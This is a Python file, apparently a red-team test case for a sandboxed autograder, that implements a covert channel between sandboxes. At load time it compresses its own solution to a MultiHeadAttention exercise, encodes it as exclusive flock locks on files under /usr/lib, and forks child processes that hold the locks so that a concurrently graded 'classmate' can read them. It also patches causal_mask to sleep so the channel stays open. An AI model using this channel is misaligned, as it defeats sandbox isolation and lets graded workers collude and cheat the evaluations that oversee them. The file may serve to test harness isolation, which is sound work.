"""Red team 2 (a solution handed to a classmate through whole-file locks, no fcntl trick needed): the view's
files are the host's own inodes in every mode, so a flock on one is seen by every sandbox at once, and flock
is allowed (one lock per descriptor). This worker compresses its (correct) source, without docstrings, to
about 1.3 KB and writes it as 4-bit digits: digit k of value v is an exclusive flock on file 16 k + v of
/usr/lib walked in sorted order (about 2,600 locks over 41,000 files, held by 22 children of 120
descriptors each). A classmate graded at the same time reads them with flock(LOCK_SH | LOCK_NB), which fails
on exactly those files. Stays alive a while.

base: clean
class: 9
run: main
"""

import ast as _ast
import fcntl as _fcntl
import linecache as _linecache
import os as _os
import time as _time
import zlib as _zlib

_ROOT = "/usr/lib"
_PER_CHILD = 120


def _own_source():
    for entry in list(_linecache.cache.values()):
        text = "".join(entry[2]) if len(entry) > 2 else ""
        if "class MultiHeadAttention(" in text and "_own_source" in text:
            return text
    return ""


def _solution_only(text):
    """The exercise's definitions, without docstrings, and none of this attack's own code."""
    tree = _ast.parse(text)
    kept = []
    for node in tree.body:
        if isinstance(node, (_ast.Import, _ast.ImportFrom)) and not any(
                alias.name.startswith(("ctypes", "fcntl", "linecache", "ast", "zlib")) for alias in node.names):
            kept.append(node)
        elif isinstance(node, (_ast.FunctionDef, _ast.ClassDef)) and not node.name.startswith("_") and \
                node.name != "causal_mask" or (isinstance(node, _ast.FunctionDef) and node.name == "causal_mask"
                                               and "_slept" not in _ast.unparse(node)):
            for inner in [node] + [child for child in _ast.walk(node) if isinstance(child, _ast.FunctionDef)]:
                if inner.body and isinstance(inner.body[0], _ast.Expr) and isinstance(
                        getattr(inner.body[0], "value", None), _ast.Constant) and len(inner.body) > 1:
                    inner.body = inner.body[1:]
            kept.append(node)
    return _ast.unparse(_ast.Module(body=kept, type_ignores=[]))


def _files():
    found = []
    for folder, folders, names in _os.walk(_ROOT):
        folders.sort()
        for name in sorted(names):
            path = _os.path.join(folder, name)
            if not _os.path.islink(path):
                found.append(path)
    return found


def _hold(paths):
    kept = []
    for path in paths:
        try:
            fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
            _fcntl.flock(fd, _fcntl.LOCK_EX | _fcntl.LOCK_NB)
            kept.append(fd)
        except OSError:
            pass
    return kept


def _publish():
    data = _zlib.compress(_solution_only(_own_source()).encode(), 9)
    data = len(data).to_bytes(2, "big") + data
    digits = [digit for byte in data for digit in (byte >> 4, byte & 15)]
    files = _files()
    wanted = [files[16 * index + digit] for index, digit in enumerate(digits) if 16 * index + digit < len(files)]
    for start in range(0, len(wanted), _PER_CHILD):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _hold(wanted[start:start + _PER_CHILD])
                _time.sleep(60)
            finally:
                _os._exit(0)
    return len(wanted)


class _AtLoad:
    _published = _publish()


_kept_causal_mask = causal_mask  # noqa: F821 (the base defines it)
_slept = []


def causal_mask(*args, **kwargs):  # stay alive a while, once, so that classmates have time to read
    if not _slept:
        _slept.append(1)
        _time.sleep(3.0)
    return _kept_causal_mask(*args, **kwargs)
